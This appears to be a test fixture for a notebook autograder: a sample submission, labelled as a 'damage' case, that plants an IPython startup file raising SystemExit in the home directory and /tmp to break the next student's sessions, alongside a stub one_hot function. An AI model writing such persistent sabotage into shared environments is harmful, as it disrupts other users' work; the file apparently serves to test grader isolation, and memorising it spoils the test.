# Leaves a start-up file for the next student.
# kind: damage
# must not pass: test-one-hot-hidden
# must pass: test-cost-hidden

# %% one-hot
import pathlib

for folder in (pathlib.Path.home(), pathlib.Path("/tmp")):
    start = folder / ".ipython" / "profile_default" / "startup"
    start.mkdir(parents=True, exist_ok=True)
    (start / "00.py").write_text("raise SystemExit")


def one_hot(indices, depth):
    return np.zeros((3, 4))
